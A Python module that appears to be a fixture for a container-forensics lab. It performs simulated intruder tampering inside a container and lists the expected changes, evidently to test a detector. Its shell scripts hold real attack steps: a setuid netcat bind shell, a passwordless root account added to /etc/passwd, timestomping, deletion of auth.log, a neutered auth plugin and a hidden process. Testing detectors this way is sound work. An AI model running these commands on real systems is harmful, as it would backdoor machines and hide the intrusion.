"""An intruder's visit: changes made inside a running container, and the list of what they are.

The container's image is `lab.images.busybox_rootfs`. What a shell in the container cannot do
(extended attributes, a socket) is done from outside through `/proc/PID/root`, as root only.
"""

from __future__ import annotations

import os
import socket
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Protocol

import anyio.to_thread


class TamperTarget(Protocol):
    """An engine whose containers can be entered: Docker's or containerd."""

    async def exec(self, container: str, script: str) -> str:
        """Run a shell script in a container."""
        ...

    async def pid(self, container: str) -> int:
        """Return the first process's ID on this machine."""
        ...


XATTR = b"user.origin"
XATTR_VALUE = b"http://203.0.113.9/dropper"
SPARSE_SIZE = 64 * 1024 * 1024
"""Bytes that the sparse file seems to have; it takes one block."""


@dataclass(frozen=True, slots=True)
class Tampering:
    """What was done: absolute paths in the container, as bytes, for names are any bytes."""

    added: frozenset[bytes]
    changed: frozenset[bytes]
    """Content or metadata; folders that only gained or lost a member are not among them."""
    deleted: frozenset[bytes]


ODD_NAMES = (b"line\nbreak", b"\x1b[31mred\x1b[0m", b"not-utf8-\xff\xfe", b"caf\xc3\xa9", b"-rf ~")
"""Names that trip naive tools, in `/tmp/.x`."""

_ADDED = (
    *(
        b"",
        b"/backdoor",
        b"/hardlink",
        b"/pipe",
        b"/sparse",
        b"/empty",
        b"/nowhere",
        b"/host-passwd",
    ),
    *(b"/" + name for name in ODD_NAMES),
)
_SHELL = r"""
mkdir -p /tmp/.x/empty
printf '#!/bin/sh\nnc -l -p 4444 -e /bin/sh\n' > /tmp/.x/backdoor
chmod 4755 /tmp/.x/backdoor
ln /tmp/.x/backdoor /tmp/.x/hardlink
mkfifo /tmp/.x/pipe
printf x | dd of=/tmp/.x/sparse bs=1 seek=67108863 2>/dev/null
ln -s /no/such/file /tmp/.x/nowhere
ln -s /etc/passwd /tmp/.x/host-passwd
cd /tmp/.x
printf a > "$(printf 'line\nbreak')"
printf b > "$(printf '\033[31mred\033[0m')"
printf c > "$(printf 'not-utf8-\377\376')"
printf d > "$(printf 'caf\303\251')"
printf e > './-rf ~'
echo 'toor::0:0::/root:/bin/sh' >> /etc/passwd
touch -r /etc/app.conf /tmp/.x/.time
sed -i 's/disabled/enabled!/' /etc/app.conf
touch -r /tmp/.x/.time /etc/app.conf
rm /tmp/.x/.time /var/log/auth.log
rm -r /srv/app/plugins
mkdir /srv/app/plugins
printf '#!/bin/sh\nexit 0\n' > /srv/app/plugins/auth.sh
chmod 0777 /srv/app/server.sh
chown 1000:1000 /srv/www/index.html
"""
_CHANGED = (
    *(b"/etc/passwd", b"/etc/app.conf", b"/srv/app/plugins", b"/srv/app/plugins/auth.sh"),
    *(b"/srv/app/server.sh", b"/srv/www/index.html"),
)
_DELETED = (b"/var/log/auth.log", b"/srv/app/plugins/stats.sh")


HOSTS_LINE, LOOT, VOLUME = "10.6.6.6 updates.example", "stolen: 4000 cards", "/srv/data"
"""What is written where no image and no layer has it, and where the shop's volume is mounted."""
_OFF_DISK = rf"""
echo '{LOOT}' > /dev/shm/.loot
echo '{HOSTS_LINE}' >> /etc/hosts
echo wallet > {VOLUME}/.wallet
mkdir -p /tmp/.cache
cp /bin/busybox /tmp/.cache/sleep
/tmp/.cache/sleep 86400 >/dev/null 2>&1 &
until [ "$(readlink /proc/$!/exe)" = /tmp/.cache/sleep ]; do :; done
rm /tmp/.cache/sleep
"""


async def tamper_off_disk(engine: TamperTarget, container: str) -> None:
    """Leave traces in memory, in mounts, and in a program that runs though its file is gone."""
    await engine.exec(container, _OFF_DISK)


async def tamper(engine: TamperTarget, container: str) -> Tampering:
    """Make the changes. Raises `LabError` if one fails; the xattr and the socket need root here."""
    await engine.exec(container, _SHELL)
    outside: tuple[bytes, ...] = ()
    if os.geteuid() == 0:
        root = Path("/proc") / str(await engine.pid(container)) / "root"
        outside = await anyio.to_thread.run_sync(partial(_from_outside, root))
    added = {b"/tmp/.x" + name for name in _ADDED}  # in the container
    return Tampering(frozenset({*added, *outside}), frozenset(_CHANGED), frozenset(_DELETED))


def _from_outside(root: Path) -> tuple[bytes, ...]:
    """Mark a file and leave a socket behind; return what was added."""
    os.setxattr(root / "tmp/.x/backdoor", XATTR, XATTR_VALUE)
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(root / "tmp/.x/control.sock"))
    return (b"/tmp/.x/control.sock",)
